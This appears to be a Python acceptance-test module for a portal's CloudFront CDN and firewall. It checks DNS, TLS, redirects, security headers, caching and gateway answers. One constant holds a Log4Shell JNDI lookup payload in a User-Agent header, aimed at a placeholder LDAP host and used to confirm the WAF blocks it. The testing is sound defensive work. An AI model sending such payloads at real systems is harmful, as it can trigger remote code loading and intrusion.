"""The CDN and its firewall, as anybody meets them."""

from infra.accept.answers import Answer, Check, Subject, by_hand, not_tried, red, told
from infra.headers import load_headers

_LIVE = frozenset({"live"})
# What AWS's managed rules for known bad inputs refuse: CVE-2021-44228, as their reference names it.
_BAD = {"User-Agent": "${jndi:ldap://example.invalid/a}"}
_NETWORKS = "ask for codes in one network until it is told to wait; another one is not"
_TIMES = 4
_NOWHERE = "/api/practices/-/nowhere"


def cdn_domain(subject: Subject) -> Answer:
    asked_of = {"Id": subject.site["DistributionId"]}
    found = subject.edge.call("cloudfront", "get-distribution", **asked_of)["Distribution"]
    wrong = [] if found["Status"] == "Deployed" else [f"the CDN is {found['Status']}"]
    names = found["DistributionConfig"].get("Aliases", {}).get("Items", [])
    if subject.stage.domain not in names:
        wrong.append("it has not taken the domain")
    return told(wrong, "the CDN is deployed and has the domain")


def dns(subject: Subject) -> Answer:
    ours, cdn = (subject.web.addresses(name) for name in (subject.stage.domain, subject.site["CdnDomain"]))
    if not ours:
        return red("the domain has no address")
    return told([] if ours & cdn else ["the domain leads elsewhere"], "the domain leads to the CDN")


def tls(subject: Subject) -> Answer:
    new, old = (subject.web.accepts(subject.host, version) for version in ("1.2", "1.1"))
    wrong = [] if new else ["TLS 1.2 is refused"]
    if subject.stage.is_trial:
        return told(wrong, f"TLS 1.2 is taken; 1.1, too: {'yes' if old else 'no'}")
    return told([*wrong, *(["TLS 1.1 is taken"] if old else [])], "TLS 1.2 is taken, 1.1 refused")


def redirect(subject: Subject) -> Answer:
    page = subject.web.get(f"http://{subject.host}/")
    right = page.status in (301, 308) and page.headers.get("location", "").startswith("https://")
    return told([] if right else [f"plain HTTP is answered with {page.status}"], "plain HTTP leads to TLS")


def headers(subject: Subject) -> Answer:
    wanted = load_headers()
    wrong = []
    for what, path, group in (("pages", "/nowhere", wanted.pages), ("the API", _NOWHERE, wanted.api)):
        page = subject.web.get(f"https://{subject.host}{path}")
        # HSTS is the stage's choice; that there is one is what counts.
        missing = [
            name for name, value in group.items()
            if (page.headers.get(name.lower(), "") != value if name != "Strict-Transport-Security"
                else "max-age=" not in page.headers.get(name.lower(), ""))
        ]  # fmt: skip
        wrong += [f"{what}: {', '.join(missing)}"] if missing else []
    return told(wrong, f"{len(wanted.pages)} headers of pages, {len(wanted.api)} of the API's answers")


def pages(subject: Subject) -> Answer:
    """An address without a dot is the app; a file that is not there is none."""
    app = subject.web.get(f"https://{subject.host}/some-practice/billing")
    file = subject.web.get(f"https://{subject.host}/assets/not-there.js")
    wrong = [] if app.status == 200 and "text/html" in app.headers.get("content-type", "") else ["no app"]
    wrong += [] if file.status in (403, 404) else [f"a file that is not there is answered with {file.status}"]
    return told(wrong, "addresses lead to the app, files that are not there to nothing")


def cache(subject: Subject) -> Answer:
    """Each address several times: the first answer of one is never from the store."""
    pages, api = (
        [subject.web.get(f"https://{subject.host}{path}") for _ in range(_TIMES)] for path in ("/", _NOWHERE)
    )
    seen = [page.headers.get("x-cache", "").lower() for page in (*pages, *api)]
    wrong = [] if all("cloudfront" in each for each in seen) else ["the CDN does not answer"]
    wrong += [] if {page.status for page in pages} == {200} else ["the first page is not answered with 200"]
    if any("hit" in each for each in seen[_TIMES:]):
        wrong.append("an answer of the API came from the CDN's store")
    return told(
        wrong, f"of {_TIMES} first pages {sum('hit' in one for one in seen[:_TIMES])} came from its store,"
        " and none of the API's answers",
    )  # fmt: skip


def firewall(subject: Subject) -> Answer:
    page = subject.web.get(f"https://{subject.host}/", _BAD)
    fine = subject.web.get(f"https://{subject.host}/")
    wrong = [] if page.status == 403 else [f"a known attack is answered with {page.status}"]
    wrong += [] if fine.status == 200 else [f"a visitor is answered with {fine.status}"]
    return told(wrong, "a known attack is refused, and a visitor is not")


def api_past_cdn(subject: Subject) -> Answer:
    if subject.stage.firewall == "off":
        return not_tried("the stage has switched the API's firewall off")
    page = subject.web.get(f"https://{subject.app['ApiDomain']}{_NOWHERE}")
    return told([] if page.status == 403 else [f"past the CDN: {page.status}"], "past the CDN is refused")


def gateway(subject: Subject) -> Answer:
    page = subject.web.get(f"https://{subject.host}{_NOWHERE}")
    wrong = [] if page.status in (403, 404) else [f"an address that is none is answered with {page.status}"]
    wrong += [] if "json" in page.headers.get("content-type", "") else ["not in JSON"]
    return told(wrong, f"an address that is none: {page.status}, in JSON")


CHECKS = (
    Check("cdn-domain", "the CDN has the domain", cdn_domain, kinds=_LIVE),
    Check("dns", "the domain leads to the CDN", dns, kinds=_LIVE),
    Check("cdn-tls", "which TLS the portal takes", tls),
    Check("http-redirect", "plain HTTP leads to TLS", redirect),
    Check("cdn-headers", "the security headers are sent", headers),
    Check("cdn-pages", "the page function leads to the app", pages),
    Check("cdn-cache", "what the CDN keeps", cache),
    Check("cdn-firewall", "the CDN's firewall refuses an attack", firewall, kinds=_LIVE),
    Check("api-past-cdn", "the API refuses who comes past the CDN", api_past_cdn, kinds=_LIVE),
    Check("gateway-answers", "the gateway's own answers", gateway),
    Check("viewer-address", "limits count a visitor's own address", by_hand("viewer-address", _NETWORKS),
          minutes=5, local=True),
)  # fmt: skip
